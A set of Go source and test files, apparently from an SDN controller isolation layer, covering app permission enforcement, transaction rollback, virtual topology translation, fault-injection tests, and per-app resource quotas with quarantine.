	// Kernel still functional.
	if _, err := env.kernel.SwitchStats(1); err != nil {
		t.Errorf("kernel broken after app panic: %v", err)
	}
}

func TestPacketOutProvenance(t *testing.T) {
	env := newEnv(t, 2)
	grant(t, env.shield, "responder", `
PERM pkt_in_event
PERM send_pkt_out LIMITING FROM_PKT_IN
`)
	var api API
	pins := make(chan *of.PacketIn, 16)
	if err := env.shield.Launch(app("responder", func(a API) error {
		api = a
		return a.Subscribe(controller.EventPacketIn, func(ev controller.Event) {
			pins <- ev.PacketIn
		})
	})); err != nil {
		t.Fatal(err)
	}

	env.built.Hosts[0].SendTCP(env.built.Hosts[1], 9, 9, 0, nil)
	var pin *of.PacketIn
	select {
	case pin = <-pins:
	case <-time.After(2 * time.Second):
		t.Fatal("no packet-in")
	}

	// Re-emitting the buffered packet is allowed.
	if err := api.SendPacketOut(pin.DPID, pin.BufferID, of.PortNone, []of.Action{of.Output(3)}, nil); err != nil {
		t.Fatalf("buffered packet-out denied: %v", err)
	}
	// Fabricated packets are blocked (Class 1 defense).
	forged := of.NewTCPPacket(of.MAC{9}, of.MAC{8}, 1, 2, 3, 4, of.TCPFlagRST)
	if err := api.SendPacketOut(1, 0, of.PortNone, []of.Action{of.Flood()}, forged); err == nil {
		t.Fatal("forged packet-out should be denied")
	}
}

func TestMonolithAllowsEverything(t *testing.T) {
	b, err := netsim.Linear(2)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Net.Stop()
	k := controller.New(b.Topo, nil)
	defer k.Stop()
	for _, sw := range b.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			t.Fatal(err)
		}
		if _, err := k.AcceptSwitch(ctrlSide); err != nil {
			t.Fatal(err)
		}
	}
	m := NewMonolith(k)
	var api API
	if err := m.Launch(app("anything", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}
	if err := m.Launch(app("anything", func(a API) error { return nil })); err == nil {
		t.Error("duplicate launch accepted")
	}

	if err := api.InsertFlow(1, controller.FlowSpec{Match: of.NewMatch(), Priority: 1, Actions: []of.Action{of.Drop()}}); err != nil {
		t.Errorf("monolith denied insert: %v", err)
	}
	if !api.HasPermission(core.TokenHostNetwork) {
		t.Error("monolith must report all permissions")
	}
	if _, err := api.Switches(); err != nil {
		t.Error(err)
	}
	if err := api.HostExec("anything"); err != nil {
		t.Error(err)
	}
	if err := api.Publish("alto/x", 1); err != nil {
		t.Error(err)
	}
	if v, ok, err := api.ReadModel("alto/x"); err != nil || !ok || v != 1 {
		t.Error("model round trip failed")
	}
	if m.Kernel() != k {
		t.Error("kernel accessor wrong")
	}
}

func TestTransactionAtomicity(t *testing.T) {
	env := newEnv(t, 2)
	grant(t, env.shield, "txapp", "PERM insert_flow LIMITING MAX_PRIORITY 100\nPERM delete_flow\nPERM read_flow_table")
	var api API
	if err := env.shield.Launch(app("txapp", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}

	m1 := of.NewMatch().Set(of.FieldTPDst, 80)
	m2 := of.NewMatch().Set(of.FieldTPDst, 443)

	// Second insert violates MAX_PRIORITY: nothing must be installed.
	tx := api.Transaction().
		InsertFlow(1, controller.FlowSpec{Match: m1, Priority: 10, Actions: []of.Action{of.Output(3)}}).
		InsertFlow(1, controller.FlowSpec{Match: m2, Priority: 999, Actions: []of.Action{of.Output(3)}})
	err := tx.Commit()
	var txErr *permengine.TxError
	if !errors.As(err, &txErr) || txErr.Stage != "check" {
		t.Fatalf("err = %v", err)
	}
	if flows, _ := env.kernel.Flows(1, nil); len(flows) != 0 {
		t.Fatalf("partial transaction applied: %v", flows)
	}

	// All-valid transaction commits.
	tx = api.Transaction().
		InsertFlow(1, controller.FlowSpec{Match: m1, Priority: 10, Actions: []of.Action{of.Output(3)}}).
		InsertFlow(1, controller.FlowSpec{Match: m2, Priority: 20, Actions: []of.Action{of.Output(3)}})
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	if flows, _ := env.kernel.Flows(1, nil); len(flows) != 2 {
		t.Fatalf("expected 2 flows, got %d", len(flows))
	}
	if tx.Len() != 2 {
		t.Error("Len wrong")
	}

	// Delete + reinstall rollback: deleting on an unknown switch aborts
	// and the prior delete is reverted.
	tx = api.Transaction().
		DeleteFlow(1, m1, 10, true).
		InsertFlow(42, controller.FlowSpec{Match: m2, Priority: 10, Actions: []of.Action{of.Output(1)}})
	err = tx.Commit()
	if err == nil {
		t.Fatal("expected apply failure on unknown switch")
	}
	if flows, _ := env.kernel.Flows(1, nil); len(flows) != 2 {
		t.Fatalf("rollback failed: %d flows remain", len(flows))
	}
}

func TestVirtualBigSwitchTranslation(t *testing.T) {
	env := newEnv(t, 3)
	grant(t, env.shield, "tenant", `
PERM visible_topology LIMITING VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS
PERM insert_flow
PERM delete_flow
PERM read_statistics
`)
	var api API
	if err := env.shield.Launch(app("tenant", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}

	// The tenant sees exactly one switch with the 5 external ports of the
	// 3-switch linear topology (h1, s1 left, h2, h3, s3 right).
	switches, err := api.Switches()
	if err != nil {
		t.Fatal(err)
	}
	if len(switches) != 1 || switches[0].DPID != 0 {
		t.Fatalf("switches = %v", switches)
	}
	if len(switches[0].Ports) != 5 {
		t.Fatalf("virtual ports = %d, want 5", len(switches[0].Ports))
	}
	links, err := api.Links()
	if err != nil || len(links) != 0 {
		t.Fatalf("big switch must expose no links: %v, %v", links, err)
	}
	hosts, err := api.Hosts()
	if err != nil || len(hosts) != 3 {
		t.Fatalf("hosts = %v, %v", hosts, err)
	}
	for _, h := range hosts {
		if h.Switch != 0 || h.Port == 0 {
			t.Errorf("host not mapped to virtual port: %+v", h)
		}
	}

	// Install a virtual rule: traffic to h3 -> the virtual port of h3.
	h3 := env.built.Hosts[2]
	var h3VPort uint16
	for _, h := range hosts {
		if h.IP == h3.IP() {
			h3VPort = h.Port
		}
	}
	spec := controller.FlowSpec{
		Match:    of.NewMatch().Set(of.FieldIPDst, uint64(h3.IP())),
		Priority: 10,
		Actions:  []of.Action{of.Output(h3VPort)},
	}
	if err := api.InsertFlow(0, spec); err != nil {
		t.Fatal(err)
	}
	// Physical rules landed on all three switches (path from any ingress).
	for dpid := of.DPID(1); dpid <= 3; dpid++ {
		flows, err := env.kernel.Flows(dpid, nil)
		if err != nil || len(flows) == 0 {
			t.Fatalf("no translated rule on switch %v", dpid)
		}
		if flows[0].Owner != "tenant" {
			t.Errorf("translated rule owner = %q", flows[0].Owner)
		}
	}
	// Addressing a physical switch is denied by the virtual filter.
	if err := api.InsertFlow(2, spec); err == nil {
		t.Error("physical DPID must be rejected")
	}

	// Synchronize with the switches before probing the data plane.
	for dpid := of.DPID(1); dpid <= 3; dpid++ {
		if err := env.kernel.Barrier(dpid); err != nil {
			t.Fatal(err)
		}
	}

	// Data-plane check: h1 -> h3 flows through.
	env.built.Hosts[0].SendTCP(h3, 5, 80, 0, []byte("x"))
	if _, ok := h3.WaitFor(func(p *of.Packet) bool { return p.TPDst == 80 }, 2*time.Second); !ok {
		t.Fatal("virtual rule does not forward")
	}

	// Stats aggregate over member switches.
	ss, err := api.SwitchStats(0)
	if err != nil {
		t.Fatal(err)
	}
	if ss.FlowCount != 3 || ss.PacketsTotal < 3 {
		t.Errorf("aggregated stats = %+v", ss)
	}
	fs, err := api.FlowStats(0, nil)
	if err != nil || len(fs) != 1 {
		t.Fatalf("virtual flow stats = %v, %v", fs, err)
	}
	if fs[0].Packets < 3 {
		t.Errorf("aggregated packets = %d", fs[0].Packets)
	}
	ps, err := api.PortStats(0, of.PortNone)
	if err != nil || len(ps) != 5 {
		t.Fatalf("virtual port stats = %v, %v", ps, err)
	}

	// Virtual delete removes every translated rule.
	if err := api.DeleteFlow(0, spec.Match, 10, false); err != nil {
		t.Fatal(err)
	}
	for dpid := of.DPID(1); dpid <= 3; dpid++ {
		if flows, _ := env.kernel.Flows(dpid, nil); len(flows) != 0 {
			t.Errorf("rule remains on switch %v", dpid)
		}
	}
}

func TestTopologyVisibilityFiltering(t *testing.T) {
	env := newEnv(t, 3)
	grant(t, env.shield, "tenant", "PERM visible_topology LIMITING SWITCH {1,2}")
	var api API
	if err := env.shield.Launch(app("tenant", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}
	switches, err := api.Switches()
	if err != nil {
		t.Fatal(err)
	}
	if len(switches) != 2 {
		t.Fatalf("visible switches = %v", switches)
	}
	links, err := api.Links()
	if err != nil {
		t.Fatal(err)
	}
	if len(links) != 1 || links[0].ID() != core.NewLinkID(1, 2) {
		t.Fatalf("visible links = %v", links)
	}
	hosts, err := api.Hosts()
	if err != nil {
		t.Fatal(err)
	}
	if len(hosts) != 2 {
		t.Fatalf("visible hosts = %v", hosts)
	}
	// modify_topology is not granted.
	if err := api.AddLink(topology.Link{A: 1, APort: 3, B: 2, BPort: 2}); err == nil {
		t.Error("AddLink without modify_topology should be denied")
	}
	if err := api.RemoveLink(1, 2); err == nil {
		t.Error("RemoveLink without modify_topology should be denied")
	}
}

func TestModelAccessMediation(t *testing.T) {
	env := newEnv(t, 1)
	grant(t, env.shield, "alto", "PERM visible_topology\nPERM modify_topology")
	grant(t, env.shield, "te", "PERM visible_topology")
	grant(t, env.shield, "mute", "PERM read_statistics")

	var altoAPI, teAPI, muteAPI API
	for name, ptr := range map[string]*API{"alto": &altoAPI, "te": &teAPI, "mute": &muteAPI} {
		p := ptr
		if err := env.shield.Launch(app(name, func(a API) error { *p = a; return nil })); err != nil {
			t.Fatal(err)
		}
	}
	if err := altoAPI.Publish("alto/cost", 42); err != nil {
		t.Fatalf("alto publish denied: %v", err)
	}
	if err := teAPI.Publish("alto/cost", 43); err == nil {
		t.Error("te publish should be denied (no modify_topology)")
	}
	if v, ok, err := teAPI.ReadModel("alto/cost"); err != nil || !ok || v != 42 {
		t.Errorf("te read = (%v,%v,%v)", v, ok, err)
	}
	if _, _, err := muteAPI.ReadModel("alto/cost"); err == nil {
		t.Error("mute read should be denied")
	}
}

func TestShieldStoppedBehaviour(t *testing.T) {
	env := newEnv(t, 1)
	grant(t, env.shield, "late", "PERM read_statistics")
	var api API
	if err := env.shield.Launch(app("late", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}
	env.shield.Stop()
	if _, err := api.SwitchStats(1); !errors.Is(err, ErrShieldStopped) {
		t.Errorf("err = %v, want ErrShieldStopped", err)
	}
	if err := env.shield.Launch(app("x", func(API) error { return nil })); !errors.Is(err, ErrShieldStopped) {
		t.Errorf("launch after stop = %v", err)
	}
	// Idempotent stop.
	env.shield.Stop()
}
