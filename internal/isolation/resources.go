package isolation

import (
	"fmt"
	"runtime/metrics"
	"sync"
	"sync/atomic"
	"time"

	"sdnshield/internal/core"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/recorder"
)

// Per-app resource accounting (§VI-A: deputies do work *on behalf of*
// apps, so the shield — not the app — is where consumption is visible).
// Every container carries a resourceState fed from the KSD hot path:
// execution time and queue residency come from the clock reads the
// flight recorder already takes, allocation is estimated by sampling,
// and the goroutine gauge counts container-owned workers plus calls in
// flight. Budgets declared in market manifests (BUDGET statements)
// become soft quotas: a periodic sweep compares per-second rates
// against them, and a breach emits an audit event, a recorder frame
// and a diagnostic bundle — and can, configurably, escalate to
// quarantine.

// allocSamplePeriod is the 1-in-N rate at which mediated calls bracket
// their execution with process-allocation reads; each sampled delta is
// scaled by N. Per-app attribution is an estimate — concurrent
// goroutines' allocations land in whichever sample is open — but the
// sustained rate converges on the app's share.
const allocSamplePeriod = 64

// resourceState is one container's live consumption and its budget.
type resourceState struct {
	cpuNanos   atomic.Int64 // cumulative mediated-call execution time
	waitNanos  atomic.Int64 // cumulative KSD queue residency
	allocBytes atomic.Int64 // sampled allocation estimate
	calls      atomic.Uint64
	goroutines atomic.Int64 // container workers + calls in flight
	breaches   atomic.Uint64
	allocTick  atomic.Uint64

	mu        sync.Mutex
	budget    core.Budget
	lastSweep time.Time
	lastCPU   int64
	lastAlloc int64
	lastDrops uint64
	streak    int // consecutive sweeps with at least one breach
}

// account charges one mediated call. weight scales sampled
// measurements back to full rate (1 when the recorder measures every
// call, the latency-sampling period otherwise).
func (r *resourceState) account(exec, wait time.Duration, weight int64) {
	r.cpuNanos.Add(int64(exec) * weight)
	r.waitNanos.Add(int64(wait) * weight)
}

// sampleAlloc reports whether this call should bracket its execution
// with allocation reads.
func (r *resourceState) sampleAlloc() bool {
	return r.allocTick.Add(1)%allocSamplePeriod == 0
}

func (r *resourceState) setBudget(b core.Budget) {
	r.mu.Lock()
	r.budget = b
	r.mu.Unlock()
}

// Budget returns the container's current soft quota.
func (r *resourceState) Budget() core.Budget {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.budget
}

// ResourceUsage is one app's consumption as reported by
// Shield.UsageSnapshot, HealthSnapshot and the /apps endpoint.
type ResourceUsage struct {
	App           string  `json:"app"`
	MediatedCalls uint64  `json:"mediated_calls"`
	CPUMillis     float64 `json:"cpu_ms"`
	KSDWaitMillis float64 `json:"ksd_wait_ms"`
	AllocKB       int64   `json:"alloc_kb_estimate"`
	Goroutines    int64   `json:"goroutines"`
	DroppedEvents uint64  `json:"dropped_events"`
	QuotaBreaches uint64  `json:"quota_breaches"`
	// Budget is the app's soft quota, omitted when none is set.
	Budget *core.Budget `json:"budget,omitempty"`
}

// usage snapshots the container's accounting.
func (c *Container) usage() ResourceUsage {
	u := ResourceUsage{
		App:           c.name,
		MediatedCalls: c.res.calls.Load(),
		CPUMillis:     float64(c.res.cpuNanos.Load()) / 1e6,
		KSDWaitMillis: float64(c.res.waitNanos.Load()) / 1e6,
		AllocKB:       c.res.allocBytes.Load() / 1024,
		Goroutines:    c.res.goroutines.Load(),
		DroppedEvents: c.dropped.Load(),
		QuotaBreaches: c.res.breaches.Load(),
	}
	if b := c.res.Budget(); !b.IsZero() {
		u.Budget = &b
	}
	return u
}

// UsageSnapshot reports every launched app's resource usage, keyed by
// app name.
func (s *Shield) UsageSnapshot() map[string]ResourceUsage {
	s.mu.Lock()
	containers := make([]*Container, 0, len(s.containers))
	for _, c := range s.containers {
		containers = append(containers, c)
	}
	s.mu.Unlock()
	out := make(map[string]ResourceUsage, len(containers))
	for _, c := range containers {
		out[c.name] = c.usage()
	}
	return out
}

// SetBudget installs an app's soft resource quota. Budgets set before
// the app launches are held and applied at Launch (the market installs
// permissions and budgets before starting the app).
func (s *Shield) SetBudget(app string, b core.Budget) {
	s.mu.Lock()
	c, ok := s.containers[app]
	if !ok {
		s.pendingBudgets[app] = b
	}
	s.mu.Unlock()
	if ok {
		c.res.setBudget(b)
	}
}

// QuotaBreach is one budget dimension exceeded during a sweep.
type QuotaBreach struct {
	App string `json:"app"`
	// Dimension is the manifest budget key (e.g. "CPU_MS_PER_SEC").
	Dimension string `json:"dimension"`
	Observed  int64  `json:"observed"`
	Limit     int64  `json:"limit"`
}

// sweep compares the rates since the previous sweep against the
// budget. The first sweep only records baselines. It returns the
// breached dimensions and the updated consecutive-breach streak.
func (r *resourceState) sweep(now time.Time, drops uint64) ([]QuotaBreach, int) {
	r.mu.Lock()
	defer r.mu.Unlock()
	cpu, alloc := r.cpuNanos.Load(), r.allocBytes.Load()
	if r.lastSweep.IsZero() {
		r.lastSweep, r.lastCPU, r.lastAlloc, r.lastDrops = now, cpu, alloc, drops
		return nil, 0
	}
	secs := now.Sub(r.lastSweep).Seconds()
	if secs <= 0 {
		return nil, r.streak
	}
	var breaches []QuotaBreach
	check := func(dim string, observed, limit int64) {
		if limit > 0 && observed > limit {
			breaches = append(breaches, QuotaBreach{Dimension: dim, Observed: observed, Limit: limit})
		}
	}
	check("CPU_MS_PER_SEC", int64(float64(cpu-r.lastCPU)/1e6/secs), r.budget.CPUMillisPerSec)
	check("ALLOC_KB_PER_SEC", int64(float64(alloc-r.lastAlloc)/1024/secs), r.budget.AllocKBPerSec)
	check("MAX_GOROUTINES", r.goroutines.Load(), r.budget.MaxGoroutines)
	check("MAX_DROPS_PER_SEC", int64(float64(drops-r.lastDrops)/secs), r.budget.MaxDropsPerSec)
	r.lastSweep, r.lastCPU, r.lastAlloc, r.lastDrops = now, cpu, alloc, drops
	if len(breaches) > 0 {
		r.streak++
	} else {
		r.streak = 0
	}
	return breaches, r.streak
}

// CheckQuotas runs one quota sweep at the given instant and returns
// every breach. The background loop calls it once per
// QuotaCheckInterval; tests call it directly with controlled clocks.
// Each breach emits a resource audit event and a quota frame; the
// first breach per app also captures a diagnostic bundle (subject to
// the bundler's cooldown). An app breaching on QuotaEscalateAfter
// consecutive sweeps is quarantined.
func (s *Shield) CheckQuotas(now time.Time) []QuotaBreach {
	s.mu.Lock()
	containers := make([]*Container, 0, len(s.containers))
	for _, c := range s.containers {
		containers = append(containers, c)
	}
	s.mu.Unlock()
	var all []QuotaBreach
	for _, c := range containers {
		if c.Health() != Running || c.res.Budget().IsZero() {
			continue
		}
		breaches, streak := c.res.sweep(now, c.dropped.Load())
		if len(breaches) == 0 {
			continue
		}
		rec := recorder.On()
		for i := range breaches {
			br := &breaches[i]
			br.App = c.name
			c.res.breaches.Add(1)
			if audit.On() {
				audit.Emit(audit.Event{
					Kind: audit.KindResource, Verdict: audit.VerdictBreach,
					App: c.name, Op: br.Dimension,
					Detail: fmt.Sprintf("observed %d exceeds budget %d", br.Observed, br.Limit),
				})
			}
			if rec {
				recorder.Record(recorder.Frame{
					TS: now.UnixNano(), Kind: recorder.KindQuota, Code: recorder.CodeBreach,
					App: c.sym, Op: recorder.Intern(br.Dimension), Arg: br.Observed,
				})
			}
		}
		// Drain the journal so the bundle's audit tail includes the
		// breach events just emitted (the sweep is not a hot path).
		if audit.On() {
			audit.Default().Flush()
		}
		recorder.Capture(recorder.TriggerQuota, c.name, 0,
			fmt.Sprintf("%s: observed %d exceeds budget %d (streak %d)",
				breaches[0].Dimension, breaches[0].Observed, breaches[0].Limit, streak))
		if s.cfg.QuotaEscalateAfter > 0 && streak >= s.cfg.QuotaEscalateAfter {
			c.quarantineForBudget(fmt.Sprintf("budget breached on %d consecutive sweeps (%s %d > %d)",
				streak, breaches[0].Dimension, breaches[0].Observed, breaches[0].Limit))
		}
		all = append(all, breaches...)
	}
	return all
}

// quarantineForBudget permanently unhooks an app that kept breaching
// its quota — the resource analogue of the panic budget.
func (c *Container) quarantineForBudget(reason string) {
	if !c.health.CompareAndSwap(int32(Running), int32(Quarantined)) {
		return
	}
	c.supMu.Lock()
	c.quarReason = reason
	c.supMu.Unlock()
	c.metrics.quarantines.Inc()
	auditApp(c.name, audit.VerdictQuarantine, reason)
	c.unhookAll()
	recorder.Capture(recorder.TriggerQuarantine, c.name, 0, reason)
}

// quotaLoop drives the periodic sweep until Stop.
func (s *Shield) quotaLoop(interval time.Duration) {
	defer s.quotaWG.Done()
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for {
		select {
		case <-s.quotaStop:
			return
		case <-tick.C:
			s.CheckQuotas(time.Now())
		}
	}
}

// heapAllocBytes reads the process's cumulative heap allocation. Used
// in before/after pairs around sampled mediated calls; only the delta
// matters.
func heapAllocBytes() int64 {
	var s [1]metrics.Sample
	s[0].Name = "/gc/heap/allocs:bytes"
	metrics.Read(s[:])
	if s[0].Value.Kind() != metrics.KindUint64 {
		return 0
	}
	return int64(s[0].Value.Uint64())
}
