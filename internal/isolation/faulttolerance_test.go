package isolation

import (
	"errors"
	"sync/atomic"
	"testing"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/faults"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
)

// disconnectOnPriority is a deterministic fault plan: the connection
// hard-closes the moment a FlowMod with the given priority crosses it.
// It makes "the switch dies mid-transaction" a reproducible event rather
// than a timing accident.
type disconnectOnPriority struct{ priority uint16 }

func (p disconnectOnPriority) Decide(_ faults.Direction, _ int, msg of.Message) faults.Fault {
	if fm, ok := msg.(*of.FlowMod); ok && fm.Priority == p.priority {
		return faults.Fault{Kind: faults.Disconnect}
	}
	return faults.Fault{}
}

// newFaultyEnv wires a linear network to a kernel, wrapping each switch's
// control connection with the plan wrap returns for it (nil = no faults).
func newFaultyEnv(t *testing.T, switches int, cfg Config, kcfg controller.KernelConfig, wrap func(of.DPID) faults.Plan) *testEnv {
	t.Helper()
	b, err := netsim.Linear(switches)
	if err != nil {
		t.Fatal(err)
	}
	k := controller.New(b.Topo, nil, kcfg)
	for _, sw := range b.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			t.Fatal(err)
		}
		conn := of.Conn(ctrlSide)
		if plan := wrap(sw.DPID()); plan != nil {
			conn = faults.Wrap(conn, plan)
		}
		if _, err := k.AcceptSwitch(conn); err != nil {
			t.Fatal(err)
		}
	}
	s := NewShield(k, cfg)
	t.Cleanup(func() {
		s.Stop()
		k.Stop()
		b.Net.Stop()
	})
	return &testEnv{built: b, kernel: k, shield: s}
}

// TestTxRollsBackOnMidCommitDisconnect is the headline degradation test:
// switch 2's session dies exactly when the transaction's second insert
// reaches the wire. The commit must fail, the already-applied insert on
// switch 1 must be rolled back (shadow and data plane), and the shield
// must keep serving the surviving switch.
func TestTxRollsBackOnMidCommitDisconnect(t *testing.T) {
	env := newFaultyEnv(t, 2,
		Config{KSDWorkers: 2, EventQueueSize: 64},
		controller.KernelConfig{},
		func(dpid of.DPID) faults.Plan {
			if dpid == 2 {
				return disconnectOnPriority{priority: 77}
			}
			return nil
		})
	grant(t, env.shield, "mover", "PERM insert_flow\nPERM delete_flow")

	var api API
	if err := env.shield.Launch(app("mover", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}

	m1 := of.NewMatch().Set(of.FieldIPDst, 0x0a000001)
	m2 := of.NewMatch().Set(of.FieldIPDst, 0x0a000002)
	err := api.Transaction().
		InsertFlow(1, controller.FlowSpec{Match: m1, Priority: 66, Actions: []of.Action{of.Output(1)}}).
		InsertFlow(2, controller.FlowSpec{Match: m2, Priority: 77, Actions: []of.Action{of.Output(1)}}).
		Commit()

	var txErr *permengine.TxError
	if !errors.As(err, &txErr) {
		t.Fatalf("commit err = %v, want *permengine.TxError", err)
	}
	if txErr.Index != 1 || txErr.Stage != "apply" {
		t.Errorf("failed at call %d (%s), want 1 (apply)", txErr.Index, txErr.Stage)
	}
	if !errors.Is(err, controller.ErrSwitchDisconnected) {
		t.Errorf("cause = %v, want ErrSwitchDisconnected", txErr.Cause)
	}
	if len(txErr.RollbackErrors) != 0 {
		t.Errorf("rollback errors: %v", txErr.RollbackErrors)
	}

	// Switch 1's insert was undone — shadow and data plane agree. The
	// barrier orders the check after the rollback's delete flow-mod.
	if err := env.kernel.Barrier(1); err != nil {
		t.Fatalf("barrier: %v", err)
	}
	if entries, err := env.kernel.Flows(1, m1); err != nil || len(entries) != 0 {
		t.Errorf("shadow after rollback: %d entries, err %v", len(entries), err)
	}
	if got := env.built.Net.Switches()[0].Table().Entries(m1); len(got) != 0 {
		t.Errorf("switch 1 data plane kept %d rolled-back rules", len(got))
	}

	// Switch 2's session is gone; switch 1 keeps serving.
	waitCond(t, 2*time.Second, "dead switch teardown", func() bool {
		return len(env.kernel.Switches()) == 1
	})
	if err := api.InsertFlow(1, controller.FlowSpec{Match: m1, Priority: 5, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Errorf("surviving switch rejected insert: %v", err)
	}
}

// TestShieldDegradesGracefully is the combined acceptance scenario: a
// switch disconnects mid-transaction (rolled back), an app panics
// repeatedly (quarantined), and a healthy app on the surviving switch is
// served throughout.
func TestShieldDegradesGracefully(t *testing.T) {
	env := newFaultyEnv(t, 2,
		Config{
			KSDWorkers:     2,
			EventQueueSize: 64,
			RestartBackoff: time.Millisecond,
			PanicLimit:     2,
			PanicWindow:    time.Minute,
		},
		controller.KernelConfig{},
		func(dpid of.DPID) faults.Plan {
			if dpid == 2 {
				return disconnectOnPriority{priority: 50}
			}
			return nil
		})
	grant(t, env.shield, "mover", "PERM insert_flow\nPERM delete_flow")
	grant(t, env.shield, "crashy", "PERM pkt_in_event")
	grant(t, env.shield, "healthy", "PERM pkt_in_event\nPERM read_statistics")

	var moverAPI, healthyAPI API
	var healthySeen atomic.Uint64
	if err := env.shield.Launch(app("mover", func(a API) error { moverAPI = a; return nil })); err != nil {
		t.Fatal(err)
	}
	if err := env.shield.Launch(app("crashy", func(a API) error {
		return a.Subscribe(controller.EventPacketIn, func(controller.Event) { panic("crashy") })
	})); err != nil {
		t.Fatal(err)
	}
	if err := env.shield.Launch(app("healthy", func(a API) error {
		healthyAPI = a
		return a.Subscribe(controller.EventPacketIn, func(controller.Event) { healthySeen.Add(1) })
	})); err != nil {
		t.Fatal(err)
	}

	// Fault 1: the transaction loses switch 2 mid-commit.
	m := of.NewMatch().Set(of.FieldTPDst, 443)
	err := moverAPI.Transaction().
		InsertFlow(1, controller.FlowSpec{Match: m, Priority: 40, Actions: []of.Action{of.Output(1)}}).
		InsertFlow(2, controller.FlowSpec{Match: m, Priority: 50, Actions: []of.Action{of.Output(1)}}).
		Commit()
	var txErr *permengine.TxError
	if !errors.As(err, &txErr) {
		t.Fatalf("commit err = %v, want TxError", err)
	}
	if entries, _ := env.kernel.Flows(1, m); len(entries) != 0 {
		t.Errorf("rollback left %d entries on switch 1", len(entries))
	}

	// Fault 2: crashy panics until quarantined; healthy keeps counting.
	h := env.built.Hosts[0]
	i := 0
	waitCond(t, 5*time.Second, "quarantine", func() bool {
		i++
		h.Send(of.NewARPRequest(h.MAC(), h.IP(), of.IPv4(i)))
		hlth, _ := env.shield.AppHealth("crashy")
		return hlth == Quarantined
	})

	before := healthySeen.Load()
	h.Send(of.NewARPRequest(h.MAC(), h.IP(), of.IPv4(7777)))
	waitCond(t, 2*time.Second, "healthy app delivery", func() bool {
		return healthySeen.Load() > before
	})
	if _, err := healthyAPI.SwitchStats(1); err != nil {
		t.Errorf("healthy app's API failed: %v", err)
	}
	if err := moverAPI.InsertFlow(1, controller.FlowSpec{Match: m, Priority: 7, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Errorf("mover blocked on surviving switch: %v", err)
	}
}

// TestDropQueueUnderInjectedDelay: with delivery delayed by the fault
// injector and a one-slot queue in drop mode, the shield sheds load
// (counting drops) instead of stalling the kernel, and late events still
// arrive once the handler frees up.
func TestDropQueueUnderInjectedDelay(t *testing.T) {
	env := newFaultyEnv(t, 1,
		Config{KSDWorkers: 2, EventQueueSize: 2, DropOnFullQueue: true},
		controller.KernelConfig{},
		func(of.DPID) faults.Plan {
			return faults.NewRandom(11, faults.RandomConfig{
				DelayProb: 0.5,
				MaxDelay:  3 * time.Millisecond,
			})
		})
	grant(t, env.shield, "slow", "PERM pkt_in_event")

	var handled atomic.Uint64
	release := make(chan struct{})
	if err := env.shield.Launch(app("slow", func(a API) error {
		return a.Subscribe(controller.EventPacketIn, func(controller.Event) {
			<-release
			handled.Add(1)
		})
	})); err != nil {
		t.Fatal(err)
	}

	h := env.built.Hosts[0]
	for i := 0; i < 64; i++ {
		h.Send(of.NewARPRequest(h.MAC(), h.IP(), of.IPv4(i)))
	}
	c, _ := env.shield.Container("slow")
	waitCond(t, 2*time.Second, "queue drops", func() bool {
		return c.DroppedEvents() > 0
	})
	close(release)

	// The kernel stayed responsive despite the delayed, shedding path.
	if _, err := env.kernel.SwitchStats(1); err != nil {
		t.Fatalf("kernel stalled: %v", err)
	}
	waitCond(t, 2*time.Second, "delayed events delivered", func() bool {
		return handled.Load() > 0
	})
}
