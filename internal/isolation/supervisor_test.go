package isolation

import (
	"errors"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
)

// newEnvCfg is newEnv with a caller-supplied shield configuration.
func newEnvCfg(t *testing.T, switches int, cfg Config) *testEnv {
	t.Helper()
	b, err := netsim.Linear(switches)
	if err != nil {
		t.Fatal(err)
	}
	k := controller.New(b.Topo, nil)
	for _, sw := range b.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			t.Fatal(err)
		}
		if _, err := k.AcceptSwitch(ctrlSide); err != nil {
			t.Fatal(err)
		}
	}
	s := NewShield(k, cfg)
	t.Cleanup(func() {
		s.Stop()
		k.Stop()
		b.Net.Stop()
	})
	return &testEnv{built: b, kernel: k, shield: s}
}

func waitCond(t *testing.T, d time.Duration, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(time.Millisecond)
	}
}

// TestSupervisorRestartsThenQuarantines drives an app whose handler
// panics on every event through the full lifecycle: restart with
// re-initialization, then quarantine once the panic budget is spent —
// while a healthy app keeps receiving events and API service.
func TestSupervisorRestartsThenQuarantines(t *testing.T) {
	env := newEnvCfg(t, 1, Config{
		KSDWorkers:     2,
		EventQueueSize: 64,
		RestartBackoff: time.Millisecond,
		PanicLimit:     3,
		PanicWindow:    time.Minute,
	})
	grant(t, env.shield, "flappy", "PERM pkt_in_event")
	grant(t, env.shield, "steady", "PERM pkt_in_event\nPERM read_statistics")

	var inits atomic.Uint64
	var flappyAPI API
	flappy := app("flappy", func(a API) error {
		inits.Add(1)
		flappyAPI = a
		return a.Subscribe(controller.EventPacketIn, func(controller.Event) {
			panic("flappy boom")
		})
	})
	var steadySeen atomic.Uint64
	var steadyAPI API
	steady := app("steady", func(a API) error {
		steadyAPI = a
		return a.Subscribe(controller.EventPacketIn, func(controller.Event) {
			steadySeen.Add(1)
		})
	})
